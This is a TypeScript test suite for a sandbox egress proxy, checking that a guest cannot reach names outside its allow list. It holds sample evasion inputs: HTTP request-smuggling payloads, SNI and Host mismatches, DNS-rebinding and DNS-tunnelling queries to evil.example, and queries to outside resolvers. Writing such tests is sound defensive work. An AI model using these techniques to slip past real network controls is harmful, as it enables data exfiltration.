import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createServer as createHttp } from 'node:http';
import { createSecureServer } from 'node:http2';
import { join } from 'node:path';
import { after, before, beforeEach, test } from 'node:test';
import { type LabGuest, Laboratory } from './testing/laboratory.ts';

// By name: what a sandbox tries that may reach one host and wants another.

let lab: Laboratory;
let guest: LabGuest;

before(async () => {
  lab = await Laboratory.open(1);
  [guest] = lab.guests as [LabGuest];
  const web = createHttp((request, response) => response.end(`web ${request.headers.host} ${request.socket.localAddress}`));
  await new Promise<void>((resolve) => web.listen(lab.listen(80), resolve));
  lab.keep(web);
  const [key, cert] = ['key', 'cert'].map((name) => join(lab.dir, `${name}.pem`)) as [string, string];
  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', key, '-out', cert, '-days', '2', '-subj', '/CN=good.example'], { stdio: 'ignore' });
  const secure = createSecureServer({ key: readFileSync(key), cert: readFileSync(cert), allowHTTP1: true }, (request, response) => {
    response.end(`tls ${(request.socket as { servername?: string }).servername ?? ''} ${request.httpVersion} ${request.socket.localAddress}`);
  });
  secure.on('sessionError', () => {}).on('tlsClientError', () => {});
  await new Promise<void>((resolve) => secure.listen(lab.listen(443), resolve));
  lab.keep(secure);
  await lab.serve(5432, (socket) => socket.on('data', (data: Buffer) => socket.write(data.readUInt32BE(4) === 80_877_103 ? 'S' : `postgres ${socket.localAddress}`)));
  await lab.serve(25, (socket) => socket.write(`220 mail ${socket.localAddress}\r\n`));
});
after(() => lab.close());
beforeEach(async () => {
  lab.names.clear();
  lab.name('good.example', lab.host(10));
  lab.name('other.example', lab.host(11));
  lab.name('evil.example', lab.host(12));
  lab.asked.length = 0;
  await lab.admit(guest, { allow: ['good.example', 'other.example'] });
});

const connectTls = `
  const connectTls = (host, servername) => new Promise((resolve) => {
    const s = tls.connect({ host, port: 443, servername, lookup, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] }, () => s.write('GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n'));
    let got = ''; s.on('data', (d) => got += d).on('end', () => resolve(got.split('\\r\\n\\r\\n')[1])).on('error', (e) => resolve(e.code));
    setTimeout(() => resolve('timeout'), 4000).unref();
  });`;

test('HTTPS to an allowed name works, over HTTP/1.1 and HTTP/2, and to another name it does not', async () => {
  assert.equal(await guest.run(`${connectTls} return connectTls('good.example', 'good.example')`), `tls good.example 1.1 ${lab.host(10)}`);
  const overHttp2 = await guest.run<string>(`return new Promise((resolve) => {
    const session = http2.connect('https://good.example', { rejectUnauthorized: false, lookup }); session.on('error', (e) => resolve(e.code));
    let got = ''; session.request({ ':path': '/' }).on('data', (d) => got += d).on('end', () => { session.close(); resolve(got); }).end(); })`);
  assert.equal(overHttp2, `tls good.example 2.0 ${lab.host(10)}`);
  assert.equal(await guest.run(`${connectTls} return connectTls('evil.example', 'evil.example')`), 'ENOTFOUND');
});

test('an edited hosts file: an allowed name sent to another address arrives at the real one or nowhere', async () => {
  assert.equal(await guest.run(`${connectTls} return connectTls(args.evil, 'good.example')`, { evil: lab.host(12) }), 'ECONNREFUSED', 'a strict sandbox does not even connect');
  await lab.admit(guest, { deny: ['evil.example'] });
  assert.equal(await guest.run(`${connectTls} return connectTls(args.evil, 'good.example')`, { evil: lab.host(12) }), `tls good.example 1.1 ${lab.host(10)}`, 'an open one arrives at our own resolution of the name');
});

test('a denied server name on an allowed connection is cut', async () => {
  assert.equal(await guest.run(`${connectTls} return connectTls('good.example', 'evil.example')`), 'ECONNRESET');
  await lab.admit(guest, { deny: ['evil.example'] });
  assert.equal(await guest.run(`${connectTls} return connectTls(args.host, 'evil.example')`, { host: lab.host(10) }), 'ECONNRESET');
  const [event] = await lab.events((event) => event.host === 'evil.example' && event.rule === 'evil.example');
  assert.deepEqual([event?.verdict, event?.matchRule], ['blocked', 'domain']);
});

test('an allowed server name on the connection of another allowed name goes where it says', async () => {
  assert.equal(await guest.run(`${connectTls} return connectTls('good.example', 'other.example')`), `tls other.example 1.1 ${lab.host(11)}`);
});

test('rebinding: a name that turns to a private address between check and dial is not reached', async () => {
  const [address] = (await guest.resolve('good.example')) as string[];
  assert.equal(await guest.run(`return fetchText('http://good.example/').then((r) => r.status)`), 200);
  lab.name('rebound.example', '10.0.0.1');
  await lab.admit(guest, { allow: ['good.example', 'rebound.example'] });
  assert.equal(await guest.resolve('rebound.example'), 'ENODATA');
  const status = await guest.run<{ status: number; headers: Record<string, string> }>(`return fetchText('http://' + args.address + '/', { headers: { host: 'rebound.example' } })`, { address });
  assert.equal(status.status, 403);
  assert.equal(status.headers['x-paddock-blocked'], 'internal-ip');
  assert.equal(await guest.run(`${connectTls} return connectTls(args.address, 'rebound.example')`, { address }), 'ECONNRESET');
});

test('another Host on plain HTTP is answered with a reason that an agent can read', async () => {
  const { status, headers, body } = await guest.run<{ status: number; headers: Record<string, string>; body: string }>(`return fetchText('http://good.example/', { headers: { host: 'evil.example' } })`);
  assert.equal(status, 403);
  assert.equal(headers['x-paddock-blocked'], 'implicit-deny');
  assert.deepEqual(JSON.parse(body), { error: 'egress_blocked', host: 'evil.example', port: 80, rule: 'implicit-deny', reason: 'evil.example matches no rule in allow_out, and a sandbox with such rules reaches nothing else.', retry: false });
});

test('a second request on a kept-alive connection is judged for itself', async () => {
  const requests = ['good.example', 'other.example', 'evil.example'].map((host) => `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
  const said = await guest.run<string>('return converse("good.example", 80, args.requests)', { requests });
  assert.match(said, new RegExp(`web good.example ${lab.host(10)}`));
  assert.match(said, new RegExp(`web other.example ${lab.host(11)}`));
  assert.match(said, /HTTP\/1\.1 403 Forbidden/);
  assert.doesNotMatch(said, new RegExp(`web evil`));
  const slowly = await guest.run<string>(`return new Promise((resolve) => { let got = ''; const s = net.connect({ host: 'good.example', port: 80, lookup }, () => s.write(args.requests[0])); s.on('data', (d) => { got += d; if (/web good/.test(d)) s.write(args.requests[2]); }).on('end', () => resolve(got)).on('error', (e) => resolve(got + e.code)); })`, { requests });
  assert.match(slowly, /403 Forbidden/);
});

const malformed: [string, string][] = [
  ['two framings', 'POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n'],
  ['two lengths', 'POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n'],
  ['an unknown encoding', 'POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n'],
  ['a broken chunk', 'POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n'],
  ['two hosts', 'GET / HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n'],
  ['no host', 'GET / HTTP/1.1\r\n\r\n'],
  ['a host in disguise', 'GET / HTTP/1.1\r\nHost: good.example@evil.example\r\n\r\n'],
  ['a space before the colon', 'GET / HTTP/1.1\r\nHost : evil.example\r\n\r\n'],
  ['a folded header', 'GET / HTTP/1.1\r\nHost:\r\n evil.example\r\n\r\n'],
  ['a target that says another host', 'GET http://evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n'],
  ['a bare line feed', 'GET / HTTP/1.1\nHost: evil.example\n\n'],
  ['a NUL', 'GET / HTTP/1.1\r\nHost: good.example\0.evil.example\r\n\r\n'],
  ['an old version', 'GET / HTTP/0.9\r\nHost: evil.example\r\n\r\n'],
  ['a tab for a space', 'GET\t/\tHTTP/1.1\r\nHost: evil.example\r\n\r\n'],
  ['a small letter', 'get / HTTP/1.1\r\nHost: evil.example\r\n\r\n'],
  ['an address in an odd spelling', 'GET / HTTP/1.1\r\nHost: 0x0a.1\r\n\r\n'],
];
for (const [what, request] of malformed) {
  test(`smuggled or malformed HTTP: ${what}`, async () => {
    const said = await guest.run<string>('return converse("good.example", 80, args.request)', { request });
    assert.doesNotMatch(said, /web /);
    assert.match(said, /^HTTP\/1\.1 4\d\d |^\|ECONNRESET/, said);
    assert.doesNotMatch(said, /HTTP\/1\.1 200/);
  });
}

test('HTTP/2 without TLS, and bytes that do not say what they are, are not passed on', async () => {
  assert.equal(await guest.run('return converse("good.example", 80, "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")'), '|ECONNRESET');
  assert.equal(await guest.run('return converse("good.example", 443, [[0x16, 3, 1, 0, 5, 1, 0, 0, 1, 0]])'), '|ECONNRESET');
  assert.equal(await guest.run('return converse("good.example", 80, "GET /" + "x".repeat(17000))'), '|ECONNRESET');
});

test('a slow ClientHello is cut after five seconds', async () => {
  const started = performance.now();
  assert.equal(await guest.run('return converse("good.example", 443, [[0x16, 3]], { ms: 8000 })'), '|ECONNRESET');
  assert.ok(performance.now() - started < 6000);
});

test('DNS tunnelling: no question about a denied name leaves the host', async () => {
  for (const name of ['c2VjcmV0.evil.example', `${'a'.repeat(63)}.${'b'.repeat(63)}.evil.example`, 'evil.example', 'x.good.example']) assert.equal(await guest.resolve(name), 'ENOTFOUND', name);
  for (const type of ['TXT', 'MX', 'SRV', 'NS', 'CNAME', 'CAA', 'SOA', 'NAPTR']) {
    const code = await guest.run<string>('return resolver.resolve("c2VjcmV0.evil.example", args.type).then(() => "answer", (e) => e.code)', { type });
    assert.equal(code, 'ENOTFOUND', type);
  }
  assert.deepEqual(lab.asked, []);
});

test('DNS to an outside server ends at our resolver, on UDP and TCP; on 853 it ends before a handshake', async () => {
  const over = (server: string): Promise<unknown> => guest.run(`const r = new dns.promises.Resolver({ timeout: 1500, tries: 1 }); r.setServers([args.server]); return r.resolve4('evil.example').catch((e) => e.code)`, { server });
  for (const server of ['1.1.1.1', '9.9.9.9', lab.host(53), lab.host(10)]) assert.equal(await over(server), 'ENOTFOUND', server);
  assert.deepEqual(lab.asked, []);
  const overTcp = await guest.run<string>(`return converse('1.1.1.1', 53, [[0, 30, 0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 4, 101, 118, 105, 108, 7, 101, 120, 97, 109, 112, 108, 101, 0, 0, 1, 0, 1]], { ms: 500 })`);
  assert.equal(overTcp.charCodeAt(5) & 15, 3, 'NXDOMAIN');
  assert.deepEqual(lab.asked, []);
  assert.equal((await guest.attempt('1.1.1.1', 853)).outcome, 'ECONNREFUSED');
  assert.equal((await guest.attempt(lab.host(53), 853)).outcome, 'ECONNREFUSED');
});

test('a pattern that backtracks in other engines holds nobody up', async () => {
  await lab.admit(guest, { allow: ['~(a+)+b\\.example', 'good.example'] });
  const started = performance.now();
  assert.equal(await guest.resolve(`${'a'.repeat(60)}.example`), 'ENOTFOUND');
  assert.ok(performance.now() - started < 200);
});

test('a server that speaks first is heard before the client says a word, on a name', async () => {
  assert.match(await guest.run<string>('return converse("good.example", 25, [], { ms: 500 })'), new RegExp(`^220 mail ${lab.host(10)}`));
  const postgres = await guest.run<string>(`return new Promise((resolve) => { const s = net.connect({ host: 'good.example', port: 5432, lookup }, () => s.write(Buffer.from([0, 0, 0, 8, 4, 210, 22, 47]))); let n = 0; s.on('data', (d) => { if (n++ === 0) { s.write(Buffer.from([0, 0, 0, 8, 0, 3, 0, 0])); } else resolve(String(d)); }).on('error', (e) => resolve(e.code)); })`);
  assert.equal(postgres, `postgres ${lab.host(10)}`);
});

test('an allowed address is reached under any name', async () => {
  await lab.admit(guest, { allow: ['good.example', `${lab.host(12)}/32`] });
  assert.equal(await guest.run(`${connectTls} return connectTls(args.host, 'evil.example')`, { host: lab.host(12) }), `tls evil.example 1.1 ${lab.host(12)}`);
});

test('a server of the sandbox\'s own that answers with nonsense ends its connection and nobody else\'s', async () => {
  const answers = ['HTTP/1.1 099 Odd\r\nContent-Length: 0\r\n\r\n', 'HTTP/1.1 200 O\u0001K\r\nContent-Length: 0\r\n\r\n', 'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nA b: c\r\n\r\n', 'HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello', 'not HTTP at all\r\n\r\n', 'HTTP/1.1 101 Switching Protocols\r\n\r\n'];
  let at = 0;
  await lab.serve(8080, (socket) => socket.on('data', () => socket.write(answers[at]!, 'latin1')));
  const pid = lab.proxy.pid;
  for (; at < answers.length; at++) {
    const said = await guest.run<string>('return converse("good.example", 8080, "GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n", { ms: 500 })');
    assert.doesNotMatch(said, /evil/, answers[at]);
  }
  // Names that are not UTF-8, and labels of all lengths.
  await guest.run(`const s = dgram.createSocket('udp4'); const label = Buffer.concat([Buffer.from([63]), Buffer.alloc(63, 0xff)]); s.send(Buffer.concat([Buffer.from('000101000001000000000000', 'hex'), label, label, label, Buffer.from([0, 0, 1, 0, 1])]), 53, '8.8.8.8', () => s.close()); const t = dgram.createSocket('udp4'); for (let i = 0; i < 200; i++) t.send(Buffer.from(Array.from({ length: i }, (_, k) => (k * 37 + i * 11) & 255)), 53, '8.8.8.8'); setTimeout(() => t.close(), 100);`);
  assert.equal(await guest.run(`return fetchText('http://good.example/').then((r) => r.status)`), 200);
  assert.deepEqual([lab.proxy.pid, lab.proxy.exitCode, lab.proxyErrors], [pid, null, '']);
});
